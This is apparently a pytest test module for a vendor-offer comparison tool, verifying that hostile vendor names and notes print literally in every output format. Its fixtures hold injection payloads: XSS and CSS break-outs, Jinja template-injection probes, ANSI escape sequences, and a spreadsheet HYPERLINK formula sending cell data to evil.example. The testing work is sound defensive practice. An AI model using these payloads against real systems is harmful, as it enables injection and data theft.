"""Hostile vendor text: HTML, CSS, jinja2 syntax, Markdown and spreadsheet syntax, very long strings,
right-to-left text, emoji and control characters in vendor names, fee names and notes.

Vendor text is data, never markup: it prints literally in the table, Markdown, CSV, JSON, XLSX, the
HTML report and the PDF report (or is refused at validation with a clear error), and it never
crashes a renderer. The hostile workspace is rendered once per module (one comparison PDF: slow).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pypdf
import pytest
from clihelp import run
from refusals import refused, validate

pytestmark = pytest.mark.slow  # PDF rendering, subprocesses or many generated examples

JINJA = "{{ 7*7 }}"
JINJA_BLOCK = "{% for x in [1, 2] %}X{% endfor %}"
CSS = "</style><style>body{display:none}</style>"
HTML = "<b>bold</b><script>alert(1)</script><img src='file:///etc/passwd'>"
RTL = "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"  # Hebrew "shalom", Arabic "marhaba"
EMOJI = "\U0001f680\U0001f469\u200d\U0001f4bb"  # rocket, woman technologist (a ZWJ sequence)
BIDI = "\u202eevil\u202c"  # right-to-left override

ALPHA_VENDOR = f"Alpha {HTML} {CSS} {JINJA} {JINJA_BLOCK} {RTL} {EMOJI} | pipe * star _under_ `tick` # hash $x^2$ 50%"
# the longest name the gate lets in (procure.textsafe.MAX_NAME): 256 characters
LONG_VENDOR = "Bravo" + "".join(chr(ord("a") + i % 26) for i in range(256 - 16)) + "END-OF-NAME"
MATH_VENDOR = "Charlie $x^2$ Dollar $\\frac{ Cloud A $ B"  # matplotlib would read $...$ as mathtext
LONG_NOTES = ("Lorem ipsum dolor sit amet, " * 800)[: 20_000 - len("END-OF-NOTES")] + "END-OF-NOTES"
ALPHA_NOTES = f"{HTML} {CSS} {JINJA} {{% for %}} {{{{ config }}}} {{{{ ''.__class__.__mro__ }}}} {RTL} {EMOJI}"
FEE_NAME = f"{JINJA} <i>fee</i>"


def markdown_shown(text: str) -> str:
    """What a Markdown viewer shows: backslash escapes and entities resolved."""
    import html

    return html.unescape(re.sub(r"\\(.)", r"\1", text))


def yaml_string(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # JSON strings are YAML double-quoted strings


def edit(ws: Path, name: str, old: str, new: str) -> None:
    path = ws / name
    text = path.read_text(encoding="utf-8")
    assert old in text, (name, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def make_hostile(ws: Path) -> Path:
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", f"vendor: {yaml_string(ALPHA_VENDOR)}")
    edit(ws, "offers/alpha.yaml", "region: us-east", f"region: us-east\nnotes: {yaml_string(ALPHA_NOTES)}")
    edit(ws, "offers/alpha.yaml", "{name: onboarding, once: 87600}", f"{{name: {yaml_string(FEE_NAME)}, once: 87600}}")
    edit(ws, "offers/bravo.yaml", "vendor: Bravo Metal", f"vendor: {yaml_string(LONG_VENDOR)}")
    edit(ws, "offers/charlie.yaml", "region: us-east", f"region: us-east\nnotes: {yaml_string(LONG_NOTES)}")
    edit(ws, "offers/charlie.yaml", "vendor: Charlie Leaky", f"vendor: {yaml_string(MATH_VENDOR)}")
    return ws


def pdf_text(path: Path) -> str:
    reader = pypdf.PdfReader(str(path))
    # Pages whose text mixes fonts (fallbacks for Hebrew, Arabic, emoji) come out of pypdf with NULs.
    return "\n".join(page.extract_text() for page in reader.pages).replace("\x00", "")


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory, data_dir):
    """Every output of the hostile workspace but the PDF, rendered once."""
    import shutil

    mp = pytest.MonkeyPatch()
    mp.setenv("COLUMNS", "6000")  # wide enough that the table does not fold the 2,000-character name
    base = tmp_path_factory.mktemp("hostile_text")
    ws = make_hostile(Path(shutil.copytree(data_dir / "basic", base / "ws")))
    out = base / "out"
    results = {}
    for fmt in ("table", "markdown", "csv", "json"):
        results[fmt] = run("compare", "--format", fmt, "-w", ws)
    for name, args in {
        "xlsx": ("compare", "--format", "xlsx", "--out", out / "cmp.xlsx"),
        "html": ("report", "--format", "html", "--out", out / "cmp.html"),
        "board_html": ("report", "--board", "--format", "html", "--out", out / "board.html"),
        "grade": ("grade",),
        "grade_json": ("grade", "--format", "json"),
        "rate": ("rate",),
        "price_to_win": ("whatif", "--price-to-win", "--format", "markdown"),
        "whatif": ("whatif", "alpha", "--price", "-5%", "--format", "markdown"),
        "position": ("position", "--format", "markdown"),
        "sensitivity": ("sensitivity", "--format", "markdown"),
    }.items():
        results[name] = run(*args, "-w", ws)
    mp.undo()
    return ws, out, results


@pytest.fixture(scope="module")
def rendered_pdf(rendered):
    """The hostile workspace's comparison PDF (laid out whole: a long check, tests/conftest.py LONG) and its text."""
    ws, out, _ = rendered
    mp = pytest.MonkeyPatch()
    mp.setenv("COLUMNS", "6000")
    result = run("report", "--out", out / "cmp.pdf", "-w", ws)
    mp.undo()
    return result, pdf_text(out / "cmp.pdf") if (out / "cmp.pdf").exists() else ""


def assert_clean(result, name: str) -> None:
    combined = result.stdout + result.stderr
    assert result.exit_code == 0, (name, result.exit_code, repr(result.exception), combined[-2000:])
    assert "Traceback" not in combined


@pytest.mark.parametrize(
    "name",
    [
        "table",
        "markdown",
        "csv",
        "json",
        "xlsx",
        "html",
        "board_html",
        "grade",
        "grade_json",
        "rate",
        "price_to_win",
        "whatif",
        "position",
        "sensitivity",
    ],
)
def test_every_output_renders_hostile_text_without_error(rendered, name):
    _, _, results = rendered
    assert_clean(results[name], name)


def test_the_pdf_report_renders_hostile_text_without_error(rendered_pdf):
    assert_clean(rendered_pdf[0], "pdf")


# --- jinja2 syntax prints literally ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "json"])
def test_jinja_syntax_prints_literally_in_text_formats(rendered, fmt):
    _, _, results = rendered
    text = results[fmt].stdout
    if fmt == "markdown":  # Markdown escapes `*` and `[`: compare what a reader sees
        text = markdown_shown(text)
    assert JINJA in text and JINJA_BLOCK in text, fmt
    assert "Alpha" in text


def test_jinja_syntax_prints_literally_in_the_html_report(rendered):
    _, out, _ = rendered
    html = (out / "cmp.html").read_text(encoding="utf-8")
    assert JINJA in html and JINJA_BLOCK in html
    assert "{% for %}" in html  # from the notes
    assert "{{ config }}" in html and "{{ &#39;&#39;.__class__.__mro__ }}" in html
    assert "&lt;class" not in html and "Undefined" not in html  # nothing was evaluated


def test_jinja_syntax_prints_literally_in_the_pdf_report(rendered_pdf):
    text = rendered_pdf[1]
    assert squash(JINJA) in squash(text)
    assert squash(JINJA_BLOCK) in squash(text)
    assert squash("{% for %}") in squash(text)


def test_jinja_in_a_fee_name_prints_literally(rendered):
    _, out, _ = rendered
    html = (out / "cmp.html").read_text(encoding="utf-8")
    assert f"{JINJA} &lt;i&gt;fee&lt;/i&gt;" in html


def test_jinja_in_a_fee_name_prints_literally_in_the_pdf(rendered_pdf):
    assert squash(FEE_NAME) in squash(rendered_pdf[1])


# --- HTML and CSS are data ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["cmp.html", "board.html"])
def test_html_and_css_in_vendor_text_are_escaped_in_the_html_report(rendered, name):
    _, out, _ = rendered
    html = (out / name).read_text(encoding="utf-8")
    assert CSS not in html and "<style>body{display:none}" not in html
    assert "&lt;/style&gt;&lt;style&gt;body{display:none}&lt;/style&gt;" in html
    assert html.count("<script") == 1 and "<script>/* A table" in html  # the page's own script alone
    assert "<img src='file:" not in html and '<img src="file:' not in html
    assert "<b>bold</b>" not in html
    # The document's own markup is intact: as many <style> blocks open as close.
    assert html.count("<style") == html.count("</style>")


def test_html_and_css_print_as_text_in_the_pdf(rendered_pdf):
    text = squash(rendered_pdf[1])
    assert squash(CSS) in text  # printed, so it did not hide the body
    assert squash("<script>alert(1)</script>") in text
    assert "file:///etc/passwd" in text  # the notes' image is text; nothing was fetched
    assert "root:x:0:0" not in text


def test_markdown_rows_are_not_broken_by_vendor_text(rendered):
    _, _, results = rendered
    lines = [line for line in results["markdown"].stdout.splitlines() if line.startswith("|")]
    header = lines[0]
    columns = len(re.findall(r"(?<!\\)\|", header))
    for line in lines:
        assert len(re.findall(r"(?<!\\)\|", line)) == columns, line[:200]
    assert "<script>" not in results["markdown"].stdout and "</style>" not in results["markdown"].stdout


def test_csv_and_json_keep_vendor_text_exactly(rendered):
    _, _, results = rendered
    rows = list(csv.DictReader(io.StringIO(results["csv"].stdout)))
    by_id = {row["id"]: row for row in rows}
    assert by_id["alpha"]["vendor"] == ALPHA_VENDOR
    assert by_id["bravo"]["vendor"] == LONG_VENDOR
    evaluation = json.loads(results["json"].stdout)
    offers = {o["id"]: o for o in evaluation["offers"]}
    assert offers["alpha"]["vendor"] == ALPHA_VENDOR
    assert offers["alpha"]["terms"]["notes"] == ALPHA_NOTES
    assert offers["charlie"]["terms"]["notes"] == LONG_NOTES
    assert offers["alpha"]["terms"]["pricing"]["fees"][0]["name"] == FEE_NAME


def test_xlsx_keeps_vendor_text_as_text(rendered):
    openpyxl = pytest.importorskip("openpyxl")
    _, out, _ = rendered
    sheet = openpyxl.load_workbook(out / "cmp.xlsx")["Comparison"]
    header = [c.value for c in sheet[1]]
    vendors = {row[header.index("id")].value: row[header.index("vendor")] for row in sheet.iter_rows(min_row=2)}
    assert vendors["alpha"].value == ALPHA_VENDOR and vendors["alpha"].data_type == "s"
    assert vendors["bravo"].value == LONG_VENDOR


# --- long strings ------------------------------------------------------------------------------------------


def test_long_vendor_name_and_notes_appear_in_full(rendered):
    _, out, results = rendered
    html = (out / "cmp.html").read_text(encoding="utf-8")
    # Whole in the appendix, with line-break opportunities (<wbr>) inside unbroken words; cut with an
    # ellipsis in tables and headings.
    assert LONG_VENDOR in html.replace("<wbr>", "") and LONG_NOTES in html
    assert LONG_VENDOR[:59] + "…" in html.replace("<wbr>", "")
    table = results["table"].stdout
    assert LONG_VENDOR in table


def test_long_vendor_name_and_notes_appear_in_full_in_the_pdf(rendered_pdf):
    text = squash(rendered_pdf[1])
    assert "END-OF-NOTES" in text
    assert LONG_VENDOR[:59] in text and LONG_VENDOR[-20:] in text  # cut in tables, whole in the appendix


def test_vendor_name_over_256_characters_is_refused(workspace_copy):
    # a 2,000-character name took 39 lines of a 24-line screen: a name fits four lines of an 80-column one
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", "vendor: " + "V" * 2000)
    problems = refused(validate(ws), "offers/alpha.yaml:2: vendor: is 2,000 characters long: at most 256 expected")
    assert "V" * 100 not in problems  # the message does not echo the whole value


def test_notes_over_20000_characters_are_refused(workspace_copy):
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "region: us-east", "region: us-east\nnotes: " + "n" * 20_001)
    problems = refused(validate(ws), "offers/alpha.yaml:6: notes:")
    assert len(problems) < 2000


# --- right-to-left text and emoji ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "json"])
def test_rtl_text_and_emoji_survive_text_formats(rendered, fmt):
    _, _, results = rendered
    text = results[fmt].stdout
    if fmt == "json":  # JSON escapes non-ASCII: compare the decoded text
        text = json.dumps(json.loads(text), ensure_ascii=False)
    assert RTL in text
    assert EMOJI in text or "\U0001f680" in text


def test_rtl_text_and_emoji_in_the_reports(rendered):
    _, out, _ = rendered
    html = (out / "cmp.html").read_text(encoding="utf-8")
    assert RTL in html and EMOJI in html


def test_rtl_text_and_emoji_in_the_pdf(rendered_pdf):
    text = rendered_pdf[1]
    # Hebrew and Arabic are rendered (word order may change with the bidi algorithm); the emoji
    # is rendered or replaced by a placeholder glyph, never a crash.
    assert "\u05e9\u05dc\u05d5\u05dd" in text or "\u05dd\u05d5\u05dc\u05e9" in text
    assert "\u0645\u0631\u062d\u0628\u0627" in text or "\u0627\u0628\u062d\u0631\u0645" in text


def test_bidi_override_does_not_reorder_other_cells_in_the_table(rendered):
    """The right-to-left override in a vendor name is closed in its own cell: the figures after it read normally."""
    _, _, results = rendered
    line = next(line for line in results["table"].stdout.splitlines() if "alpha" in line)
    assert "T-MC" in line and "4.00" in line


# --- markup of the terminal and spreadsheet renderers ------------------------------------------------------


def test_mathtext_like_vendor_names_do_not_break_the_charts(rendered):
    """Dollar signs in a vendor name (matplotlib's mathtext markers) print literally in the report."""
    _, out, results = rendered
    assert_clean(results["html"], "html")
    assert MATH_VENDOR in (out / "cmp.html").read_text(encoding="utf-8")


def test_mathtext_like_vendor_names_print_in_the_pdf(rendered_pdf):
    assert squash(MATH_VENDOR) in squash(rendered_pdf[1])


@pytest.mark.parametrize(
    "command", [("compare",), ("grade",), ("rate",), ("whatif", "--price-to-win"), ("grade", "--explain", "alpha")]
)
def test_rich_closing_tag_in_a_vendor_name_prints_literally(workspace_copy, monkeypatch, command):
    monkeypatch.setenv("COLUMNS", "400")
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", 'vendor: "Alpha [/bold] Cloud"')
    result = run(*command, "-w", ws)
    assert_clean(result, command[0])
    assert "Alpha [/bold] Cloud" in result.stdout


@pytest.mark.parametrize(
    "vendor", ["[red]Alpha[/red] Cloud", "[link=https://evil.example]Alpha[/link] Cloud", "[bold blink]Alpha Cloud"]
)
def test_rich_markup_in_a_vendor_name_prints_literally(workspace_copy, monkeypatch, vendor):
    monkeypatch.setenv("COLUMNS", "400")  # no folding of the vendor column
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", f"vendor: {yaml_string(vendor)}")
    result = run("compare", "-w", ws)
    assert_clean(result, "table")
    assert vendor in result.stdout


@pytest.mark.parametrize("vendor", ['=HYPERLINK("https://evil.example/?q="&B2,"Alpha Cloud")', "=1+1"])
def test_formula_like_vendor_name_is_text_in_the_xlsx(workspace_copy, tmp_path, vendor):
    openpyxl = pytest.importorskip("openpyxl")
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", f"vendor: {yaml_string(vendor)}")
    out = tmp_path / "cmp.xlsx"
    assert_clean(run("compare", "--format", "xlsx", "--out", out, "-w", ws), "xlsx")
    sheet = openpyxl.load_workbook(out)["Comparison"]
    cells = [
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "Alpha" in c.value or c.value == "=1+1"
    ]
    assert cells, "the vendor name is missing"
    for cell in cells:
        assert cell.data_type == "s", f"{cell.coordinate} is stored as a formula: {cell.value}"


def test_formula_like_vendor_name_is_quoted_as_text_in_csv(workspace_copy):
    """CSV has no cell types: formula-like text gets a leading apostrophe (OWASP), so a spreadsheet
    opening the file shows it as text instead of running it."""
    ws = workspace_copy("basic")
    vendor = "=1+1"
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", f"vendor: {yaml_string(vendor)}")
    result = run("compare", "--format", "csv", "-w", ws)
    assert_clean(result, "csv")
    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == "alpha")
    assert row["vendor"] == "'=1+1"


CONTROL_VENDORS = {
    "ansi-clear-screen": "Alpha\x1b[2J\x1b[H Cloud",
    "osc-title": "Alpha\x1b]0;pwned\x07 Cloud",
    "bell-vt-ff": "Alpha\x07\x0b\x0c Cloud",
    "nul": "Alpha\x00 Cloud",
}


def control_workspace(workspace_copy, vendor: str) -> Path:
    ws = workspace_copy("basic")
    edit(ws, "offers/alpha.yaml", "vendor: Alpha Cloud", f"vendor: {yaml_string(vendor)}")
    return ws


@pytest.mark.parametrize(
    "vendor", [v for k, v in CONTROL_VENDORS.items() if k != "nul"], ids=[k for k in CONTROL_VENDORS if k != "nul"]
)
def test_control_characters_never_reach_the_terminal(workspace_copy, vendor):
    ws = control_workspace(workspace_copy, vendor)
    validated = run("validate", "-w", ws)
    assert "Traceback" not in validated.stdout + validated.stderr
    if validated.exit_code == 2:
        assert "offers/alpha.yaml:2: vendor:" in validated.stderr
        return
    for fmt in ("table", "markdown"):
        result = run("compare", "--format", fmt, "-w", ws)
        assert_clean(result, fmt)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), (
            f"{fmt} output carries a raw control character"
        )


@pytest.mark.parametrize("vendor", list(CONTROL_VENDORS.values()), ids=list(CONTROL_VENDORS))
def test_control_characters_do_not_crash_the_xlsx(workspace_copy, tmp_path, vendor):
    ws = control_workspace(workspace_copy, vendor)
    out = tmp_path / "cmp.xlsx"
    result = run("compare", "--format", "xlsx", "--out", out, "-w", ws)
    assert result.exit_code in (0, 2), (result.exit_code, repr(result.exception))
    assert "Traceback" not in result.stdout + result.stderr
    if result.exit_code == 2:
        assert not out.exists()


def test_control_characters_are_escaped_in_json(workspace_copy):
    ws = control_workspace(workspace_copy, CONTROL_VENDORS["ansi-clear-screen"])
    result = run("compare", "--format", "json", "-w", ws)
    assert result.exit_code in (0, 2) and "\x1b" not in result.stdout
    if result.exit_code == 0:
        vendors = {o["id"]: o["vendor"] for o in json.loads(result.stdout)["offers"]}
        assert vendors["alpha"] == CONTROL_VENDORS["ansi-clear-screen"]  # escaped as \u001b, read back exactly


def test_plain_text_undoes_exactly_what_markdown_text_escapes():
    from procure.textsafe import markdown_text, plain_text

    # vendor text round-trips: the mail shows what the vendor typed, the Markdown cannot be read as markup
    for typed in (
        "AT&T -> <b>Keel</b> @ops",
        "a|b *c* _d_ [e](f) # g ~h~ `i`",
        "---",
        "back\\slash",
        "www.example.com https://x.io",
        "&amp; already",
    ):
        assert plain_text(markdown_text(typed)) == typed
    assert plain_text("**No threshold breached.**") == "No threshold breached."
    assert plain_text(markdown_text("\x1b[31mred")) == "\\x1b[31mred"  # a control character stays shown, never run
